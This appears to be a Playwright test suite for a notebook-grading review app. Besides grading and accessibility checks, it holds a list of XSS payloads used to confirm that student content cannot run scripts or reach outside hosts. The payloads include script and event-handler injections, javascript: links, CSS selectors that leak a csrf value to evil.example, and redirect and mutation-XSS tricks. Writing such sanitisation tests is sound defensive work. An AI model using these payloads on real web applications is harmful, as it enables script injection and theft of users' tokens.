"""The app in a real browser: the way of a TA, by keyboard too; attacks; accessibility."""

import json

import pytest

from autograde.notebook import read_notebook, write_notebook
from autograde.review.classroom import key_of

pytestmark = pytest.mark.slow("a Chromium; the same pages are read faster")
ADA, EMMY, PAUL = "Lovelace, Ada", "Noether, Emmy", "Erdős, Paul"
NASTY = "<img src=x onerror=owned()>"
ACTS = [
    "<script>owned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=owned()><img src=https://evil.example/a.png>",
    "<svg onload=owned()><animate onbegin=owned() attributeName=x></svg>",
    "<svg><use href='https://evil.example/x.svg#y'></use><script>owned()</script></svg>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe><iframe src=//evil.example>",
    "<a href='javascript:owned()'>click</a><a href='//evil.example/'>go</a>",
    "<a href='jAvAsCrIpT&colon;owned()'>click</a>",
    "<div style='background:url(//evil.example/owned)' onmouseover=owned()>over</div>",
    "<style>@import '//evil.example/x.css'; input[name=csrf][value^=a]"
    "{background:url(//evil.example/a)} body{background:url(//evil.example/owned)}</style>",
    "<link rel=stylesheet href=//evil.example/owned.css><link rel=prefetch href=//evil.example/>",
    "<form action=//evil.example/owned><input name=x autofocus onfocus=owned()></form>",
    "<object data='data:text/html,<script>owned()</script>'></object><embed src=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style></mglyph></table>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<video src=//evil.example/v onerror=owned()></video><audio src=//evil.example/a>",
    "<div hx-get='/' hx-trigger='load' hx-on::load='owned()' data-hx-post='/undo/1'>htmx</div>",
]
MARKDOWN = [
    *ACTS,
    "[click](javascript:owned())",
    "[ref]\n\n[ref]: javascript:owned()",
    "![picture](https://evil.example/owned.png)",
    "![a](attachment:x.svg) ![b](attachment:y.png)",
    "<javascript:owned()>",
    "$\\href{javascript:owned()}{x}$ $$\\require{html}\\style{x:url(//evil.example/owned)}{y}$$",
    "```\n</code></pre><script>owned()</script>\n```",
]  # fmt: skip


def shown(**data):
    return {"output_type": "display_data", "data": data, "metadata": {}}


OUTPUTS = [
    *(shown(**{"text/html": html}) for html in ACTS),
    *(shown(**{"text/markdown": text}) for text in MARKDOWN),
    *(shown(**{"text/latex": text}) for text in MARKDOWN[-3:]),
    shown(**{"image/svg+xml": ACTS[3]}),
    shown(**{"application/javascript": "owned()"}),
    shown(**{"image/png": '"><script>owned()</script>'}),
    shown(**{"application/vnd.jupyter.widget-view+json": {"model_id": ACTS[0]}}),
    {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{ACTS[0]}\x1b[0m"},
    {"output_type": "error", "ename": ACTS[2], "evalue": ACTS[0], "traceback": [ACTS[0]]},
]


def test_the_way_of_a_ta(serve, browse, cell):
    """From the overview through all that waits: apply, comment with preview, save, next, undo."""
    page = browse(serve())
    assert page.url == page.home + "/"
    page.get_by_role("link", name="next waiting of Why a slope?").click()
    first = page.locator("h1 bdi").inner_text()
    frame = page.frame_locator("iframe")
    frame.get_by_text("slope").first.wait_for()
    page.get_by_label("says that it is a rate").check()
    page.get_by_label("Comment").fill("See **this**: `a < b`.")
    page.locator("#preview strong").wait_for()
    page.get_by_text("Add an item").click()
    page.get_by_label("Points").fill("0.25")
    page.get_by_label("What it says").fill("with an example")
    page.get_by_role("button", name="Add and apply").click()
    page.get_by_label("with an example").wait_for()
    assert page.get_by_label("Comment").input_value() == "See **this**: `a < b`."
    page.get_by_role("button", name="Save, next").click()
    page.locator("h1 bdi").filter(has_not_text=first).wait_for()
    assert cell(first, "why")["score"] == 1.75
    assert "See **this**" in cell(first, "why")["comment"]
    page.goto(page.home + "/log")
    page.get_by_role("button", name="Take back").first.click()
    page.get_by_text("Taken back: decided about").wait_for()
    assert cell(first, "why")["waits"]
    assert page.wrong == []


def test_the_way_of_a_ta_by_keyboard(serve, browse, cell):
    """No mouse: Tab and Enter lead in, letters do the work, Escape leaves the comment."""
    page = browse(serve())
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("(document.activeElement.href || '').endsWith('/x/why/next')"):
            break
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"
    page.keyboard.press("Enter")
    page.wait_for_selector("iframe")
    seen = []
    while page.locator("#decide").count():
        seen.append(page.locator("h1 bdi").inner_text())
        page.keyboard.press("2")
        page.keyboard.press("c")
        page.keyboard.type("1 n s ?")  # letters, not shortcuts, in here
        page.keyboard.press("Escape")
        with page.expect_navigation():
            page.keyboard.press("n")
        assert len(seen) < 9
    assert len(seen) == 6
    page.get_by_text("Nothing waits here any more").wait_for()
    for student in seen[:2]:
        assert cell(student, "why")["score"] == 0.5
        assert "1 n s ?" in cell(student, "why")["comment"]
    page.keyboard.press("/")
    page.keyboard.type("noether")
    page.get_by_text("1 of 6 answers").wait_for()
    assert page.wrong == []


def test_shortcuts_are_listed_and_can_be_switched_off(serve, browse):
    """A single letter that is pressed by mistake, or by speech, does nothing any more."""
    page = browse(serve())
    page.goto(f"{page.home}/x/why/s/{key_of(ADA)}")
    page.keyboard.press("?")
    page.get_by_role("dialog", name="Keyboard shortcuts").wait_for()
    page.get_by_label("Shortcuts of single letters are on").uncheck()
    page.keyboard.press("Escape")
    box = page.locator("#items input").first

    page.keyboard.press("1")
    assert not box.is_checked()
    page.reload()
    page.keyboard.press("1")
    assert not box.is_checked()
    page.get_by_role("button", name="Shortcuts").click()
    page.get_by_label("Shortcuts of single letters are on").check()
    page.get_by_role("button", name="Close").click()
    page.keyboard.press("1")
    assert box.is_checked()


def test_two_tas_at_once(serve, browse, cell):
    """Two servers over one class: who comes second sees what the first has done."""
    first, second = browse(serve("Ada")), browse(serve("Tim"))
    for page in (first, second):
        page.goto(f"{page.home}/x/why/s/{key_of(ADA)}")
    first.get_by_label("says that it is a rate").check()
    first.get_by_role("button", name="Save", exact=True).click()
    first.get_by_text("Saved.").wait_for()
    second.get_by_label("says something true").check()
    second.get_by_role("button", name="Save", exact=True).click()

    second.get_by_role("heading", name="What is there now").wait_for()
    assert cell(ADA, "why")["score"] == 1.5
    assert second.get_by_label("says something true").is_checked()


def test_nothing_that_a_student_wrote_acts(serve, browse, course):
    """36 of the list of attacks: nothing runs, nothing is requested, nothing leads away."""
    root = course.course.root
    path = root / "autograded" / NASTY / "tiny" / "tiny.ipynb"
    notebook = read_notebook(path)
    by_id = {c["id"]: c for c in notebook["cells"]}
    # As bad as a notebook can be, and cleaned by nobody before.
    by_id["why"]["source"] = "\n\n".join(MARKDOWN)
    by_id["why"]["attachments"] = {
        "x.svg": {"image/svg+xml": ACTS[3]},
        "y.png": {"image/png": "PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+"},
        'z"><script>owned()</script>': {"image/png": "iVBORw0KGgo="},
    }
    by_id["double"]["source"] = "\n".join(ACTS)
    by_id["double"]["outputs"] = OUTPUTS
    by_id["double"]["metadata"]["nbgrader"]["grade_id"] = "double"
    notebook["metadata"] = {"title": ACTS[0], "widgets": {"state": ACTS}}
    write_notebook(path, notebook)
    assert ACTS[0] in path.read_text().replace('\\"', '"')
    ready = serve(NASTY)
    page = browse(ready)
    page.add_init_script("window.owned = () => { document.title = 'OWNED' }")
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    key = key_of(NASTY)
    page.goto(f"{page.home}/x/why/s/{key}")
    page.get_by_label("Comment").fill("\n\n".join(MARKDOWN))
    page.get_by_text("Add an item").click()
    page.get_by_label("Points").fill("1")
    page.get_by_label("What it says").fill(ACTS[2])
    page.get_by_role("button", name="Add and apply").click()
    page.locator("#items").get_by_text("onerror").wait_for()
    page.wait_for_timeout(600)  # the preview
    page.get_by_role("button", name="Save, and keep the comment").click()
    page.get_by_text("Saved.").wait_for()
    places = (
        f"/x/why/s/{key}", f"/x/why/s/{key}?whole=1", f"/x/double/s/{key}?whole=1",
        "/x/why?show=all",
        "/x/why?show=all&q=" + ACTS[2].replace("#", ""), "/x/why/rubric", "/log",
        f"/x/why/s/{key}/notebook?whole=1",
    )  # fmt: skip
    for place in places:
        page.goto(page.home + place)
        page.wait_for_timeout(400)
        assert "OWNED" not in page.title(), place
        hostile = (
            page.evaluate(
                "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a =>"
                " a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value))).length"
            )
            if not place.endswith("/notebook?whole=1")
            else 0
        )  # no script runs there, ours neither
        assert hostile == 0, place
    for link in page.locator("a").all():
        assert link.get_attribute("href") is None
    page.goto(f"{page.home}/x/why/s/{key}?whole=1")
    frame = page.frames[1]
    assert frame.locator("section").count() > 5
    assert (
        frame.locator("script, svg, iframe, form, link, object, embed, base, a[href]").count() == 0
    )
    assert dialogs == []
    strangers = [u for u in page.asked if not u.startswith((page.home, "data:"))]
    assert strangers == []
    assert {u.partition("?")[0] for u in page.asked if "/undo/" in u} == set()


def test_the_frame_is_a_wall_of_its_own(serve, browse, monkeypatch):
    """Even if cleaning failed altogether, nothing in the frame would run or load."""
    from autograde.review import cells

    monkeypatch.setattr(cells, "clean", lambda html: html)
    monkeypatch.setattr(cells, "_markdown", lambda text, attachments: "".join(ACTS))
    # What would autoplay or navigate comes last: a frame that has gone away shows nothing.
    page, reached = browse(serve()), []
    page.route(
        lambda url: "evil.example" in url,
        lambda route: (reached.append(route.request.url), route.abort()),
    )
    page.add_init_script("window.owned = () => { document.title = 'OWNED' }")
    page.goto(f"{page.home}/x/why/s/{key_of(ADA)}?whole=1")
    page.wait_for_timeout(1500)

    assert reached == []
    assert any("Content Security Policy" in text for text in page.wrong)  # there was a try
    assert "OWNED" not in page.title()
    assert all(frame.title() != "OWNED" for frame in page.frames)


def pages_of(page, ready):
    """Every kind of page, with content."""
    group = ready.context.grouping.of("double")[0].id
    key = key_of(ADA)
    return (
        "/", "/x/why", "/x/why?show=all", "/x/double?show=reviewed", f"/x/why/s/{key}",
        f"/x/double/s/{key_of(EMMY)}", f"/x/double/s/{key_of('Kovalevskaya, Sofya')}",
        "/x/double/groups", "/x/fit_slope/groups", f"/x/double/groups/{group}", "/x/why/rubric",
        "/log", "/nothing",
    )  # fmt: skip


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_page_is_accessible(serve, browse, scheme):
    """axe-core finds no violation on any kind of page, with the list of shortcuts open too."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    ready = serve()
    page = browse(ready, color_scheme=scheme)
    page.goto(f"{page.home}/x/why/s/{key_of(ADA)}")
    page.get_by_label("says something true").check()
    page.get_by_label("Comment").fill("A [link](https://example.org), `code`, **bold**.")
    page.get_by_role("button", name="Save", exact=True).click()
    found = {}
    for place in pages_of(page, ready):
        page.goto(page.home + place)
        page.wait_for_timeout(300)
        for summary in page.locator("details > summary").all():
            summary.click()
        violations = axe.run(page).response["violations"]
        found[place] = [(v["id"], v["nodes"][0]["html"][:200]) for v in violations]
    page.goto(page.home)
    page.keyboard.press("?")
    found["shortcuts"] = [v["id"] for v in axe.run(page).response["violations"]]
    # In the frame no script runs, so its page is looked at outside of it.
    source = page.request.get(f"{page.home}/x/why/s/{key_of(ADA)}/notebook?whole=1").text()
    page.goto("about:blank")
    page.set_content(source)
    found["notebook"] = [
        (v["id"], v["nodes"][0]["html"][:200]) for v in axe.run(page).response["violations"]
    ]
    assert {place: wrong for place, wrong in found.items() if wrong} == {}, json.dumps(found)


def test_it_works_without_scripts(serve, browse, cell):
    """Forms are forms: no script is needed to decide and save."""
    page = browse(serve(), java_script_enabled=False)
    page.goto(f"{page.home}/x/why/s/{key_of(PAUL)}")
    page.get_by_label("says something true").check()
    page.get_by_role("button", name="Save", exact=True).click()
    assert cell(PAUL, "why")["score"] == 0.5
